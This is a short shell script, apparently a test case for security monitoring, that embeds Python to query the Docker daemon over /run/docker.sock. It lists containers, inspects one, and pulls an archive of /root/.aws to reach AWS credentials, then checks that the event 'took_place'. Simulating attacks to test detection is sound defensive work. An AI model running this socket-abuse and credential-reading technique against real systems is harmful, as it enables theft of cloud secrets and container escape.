#!/bin/sh
. /opt/case/case.sh

python3 - >/tmp/e <<'END'
import http.client, socket
class Local(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/run/docker.sock")
for path in "/v1.41/containers/json?all=1", "/v1.41/containers/0123456789ab/json", "/v1.41/containers/0123456789ab/archive?path=/root/.aws":
    local = Local("localhost")
    local.request("GET", path)
    print(local.getresponse().read().decode())
END
grep -q Id /tmp/e
took_place
